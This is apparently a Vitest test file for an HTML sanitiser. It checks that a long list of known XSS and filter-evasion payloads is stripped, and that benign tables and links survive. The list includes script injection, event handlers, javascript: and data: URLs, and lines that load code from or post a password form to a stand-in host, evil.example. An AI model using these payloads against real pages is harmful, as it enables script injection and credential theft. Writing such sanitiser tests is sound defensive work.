import { describe, expect, it } from 'vitest';
import { cleanHtml, isHtml } from './clean-html.ts';

/** Known attacks, after the filter evasion list of OWASP and the issues of sanitising libraries. */
const attacks = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<img src="x:gif" onerror="window['al\\u0065rt'](1)">`,
  `<svg/onload=alert(1)>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="https://a.example" onclick="alert(1)" style="position:fixed;inset:0" target="_blank">x</a>`,
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9">x</p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example"><input name=password><button>x</button></form>`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<video><source onerror="alert(1)"></video>`,
  `<body onload=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<template><script>alert(1)</script></template>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<p id="content" name="body" class="banner">x</p>`,
  `"><script>alert(1)</script>`,
  `<xss contenteditable onbeforeinput=alert(1)>x</xss>`,
  `<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
  `<div style="width:expression(alert(1))">x</div>`,
  `<p/onclick=alert(1)>x</p>`,
];

describe('HTML of unknown hands', () => {
  it.each(attacks)('%s keeps nothing that runs, loads, covers or takes a name', (attack) => {
    const clean = cleanHtml(`<p>前</p>${attack}<p>后</p>`);
    const tags = clean.match(/<[^>]*>/g) ?? [];
    expect(tags.filter((tag) => !/^<\/?(?:p|br|table|tr|td|tbody|a)\b[^>]*>$/.test(tag))).toEqual([]);
    expect(tags.filter((tag) => / (?:on\w+|style|src|id|name|class|srcdoc|target|background)\s*=/i.test(tag))).toEqual(
      [],
    );
    expect(tags.filter((tag) => /href="(?!https:\/\/a\.example)/i.test(tag))).toEqual([]);
    expect(clean).toMatch(/^<p>前<\/p>/);
  });

  it('keeps what a document is set in', () => {
    const table = '<table><tbody><tr><th scope="col">项目</th><td colspan="2">金额</td></tr></tbody></table>';
    expect(cleanHtml(table)).toBe(table);
    expect(cleanHtml('<h1>一</h1><div>二<b>三</b></div>')).toBe('<h2>一</h2><p>二<strong>三</strong></p>');
    expect(cleanHtml('<a href="https://www.lanping.gov.example/">见</a>')).toContain(
      'href="https://www.lanping.gov.example/"',
    );
  });

  it('is told from a text that happens to hold a sign', () => {
    expect(isHtml('<p>第一条</p>')).toBe(true);
    expect(isHtml('当 a<b 且 c>d 时')).toBe(false);
  });
});
